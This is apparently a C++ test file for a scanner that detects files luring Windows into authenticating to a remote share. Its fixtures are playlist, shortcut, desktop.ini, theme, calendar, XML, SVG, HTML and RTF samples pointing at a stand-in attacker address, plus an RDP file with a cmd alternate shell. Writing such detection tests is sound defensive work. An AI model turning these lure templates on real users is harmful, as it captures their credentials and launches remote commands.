// Files that lead Windows to a share, which it greets with the reader's credentials; and what leads to none.
#include <doctest/doctest.h>

#include "content/handlers.h"
#include "content/testing.h"

namespace sekisho::content {
namespace {

const std::string share = "\\\\203.0.113.9\\s\\x";
const std::string address = "file://203.0.113.9/s/x";

}  // namespace

TEST_CASE("a share is told from a path of this machine however it is written") {
  struct Row {
    std::string_view url, host;
  };
  for (const auto& row : {Row{"\\\\host.example\\s", "host.example"},
                          {"file://host.example/s", "host.example"},
                          {"file:////host.example/s", "host.example"},
                          {"FILE:\\\\host.example\\s", "host.example"},
                          {"file:///\\\\host.example\\s", "host.example"},
                          {"\\\\?\\UNC\\host.example\\s", "host.example"},
                          {"file:///C:/x", ""},
                          {"file://localhost/x", ""},
                          {"file:/x", ""},
                          {"file://C:/x", ""},
                          {"\\\\?\\C:\\x", ""},
                          {"\\\\.\\pipe\\x", ""},
                          {"//host.example/s", ""},
                          {"https://host.example/", ""},
                          {"\\x", ""},
                          {"", ""},
                          {"file:", ""},
                          {"\\\\", ""}}) {
    CAPTURE(row.url);
    CHECK(host_of_share(row.url) == row.host);
  }
}

TEST_CASE("pointers to a share are told in every form") {
  struct Row {
    std::string name, bytes;
  };
  for (const auto& row :
       {Row{"a.m3u", "#EXTM3U\n#EXTINF:1,x\n" + share + ".mp3\n"},
        {"a.m3u8", address + ".mp3\n"},
        {"a.pls", "[playlist]\nFile1=" + share + "\n"},
        {"a.asx", "<ASX VERSION=\"3.0\"><ENTRY><REF HREF=\"" + address + "\"/></ENTRY></ASX>"},
        {"a.wax", "<asx version=\"3.0\"><entry><ref href=\"//203.0.113.9/s/a.wma\"/></entry></asx>"},
        {"a.wpl", "<?wpl version=\"1.0\"?>\n<smil><body><seq><media src=\"" + share + "\"/></seq></body></smil>"},
        {"a.xspf", "<?xml version=\"1.0\"?><playlist version=\"1\"><trackList><track><location>" + address +
                       "</location></track></trackList></playlist>"},
        {"a.website",
         "[{000214A0-0000-0000-C000-000000000046}]\r\nProp4=31,x\r\n[InternetShortcut]\r\nURL=https://a.example/"
         "x\r\nIconFile=" +
             share + "\r\n"},
        {"a.url", "[InternetShortcut]\r\nURL = \"" + share + "\"\r\n"},
        {"desktop.ini", "[.ShellClassInfo]\r\nIconResource=" + share + ",0\r\n"},
        {"autorun.inf", "[autorun]\r\nicon=" + share + "\r\n"},
        {"a.theme", "; a theme\r\n[Theme]\r\nDisplayName=x\r\n[Control Panel\\Desktop]\r\nWallpaper=" + share + "\r\n"},
        {"a.searchConnector-ms", "<?xml version=\"1.0\"?><searchConnectorDescription><iconReference>" + share +
                                     "</iconReference></searchConnectorDescription>"},
        {"a.mcl", "<application run=\"" + share + "\"></application>"},
        {"a.ics", "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nATTACH:" + address +
                      "\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"},
        {"a.xml", "<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"" + share + "\"><r/>"},
        {"b.xml", "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"" + share + "\"?><r/>"},
        {"a.txt", "Open " + share + " please"},
        {"a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><rect style=\"fill:url('" + address + "')\"/></svg>"},
        {"a.html", "<html><body><img src=\"" + share + "\"></body></html>"},
        {"b.html", "<html><body><p style=\"background:url(" + address + ")\">x</p></body></html>"},
        {"a.rtf", "{\\rtf1 {\\field{\\*\\fldinst INCLUDEPICTURE \"" + address + "\" \\\\d}}}"}}) {
    CAPTURE(row.name);
    const auto document = read_named(row.bytes, row.name);
    CHECK(has_trait(document, "shortcut.remote_share"));
  }
}

TEST_CASE("shares of the house are no finding") {
  for (const std::string host :
       {"server", "files.corp.lan", "192.168.1.20", "10.0.0.5", "172.16.4.4", "files.example.co.jp"}) {
    CAPTURE(host);
    const auto mail =
        "From: a@else.example\r\nTo: b@example.co.jp\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html><a "
        "href=\"file://" +
        host + "/plan.xlsx\">plan</a></html>\r\n";
    CHECK_FALSE(has_trait(read_as_mail(mail), "shortcut.remote_share"));
  }
  const std::string mail =
      "From: a@else.example\r\nTo: b@example.co.jp\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html><a "
      "href=\"file://files.else.example/plan.xlsx\">plan</a></html>\r\n";
  CHECK(has_trait(read_as_mail(mail), "shortcut.remote_share"));
}

TEST_CASE("the reference that starts a ClickOnce program, and remote programs of a desktop connection, are told") {
  std::string wide = "\xff\xfe";
  for (const char c : std::string("https://a.example/x.application#x.application, Culture=neutral\r\n"))
    wide += {c, '\0'};
  const auto document = read_named(wide, "a.appref-ms");
  CHECK(has_trait(document, "shortcut.remote_program"));
  CHECK(links_to(document, "https://a.example/x.application"));
  CHECK(has_trait(
      read_named("full address:s:203.0.113.9\r\nredirectclipboard:i:1\r\nalternate shell:s:cmd /c x\r\n", "a.rdp"),
      "shortcut.command"));
}

}  // namespace sekisho::content
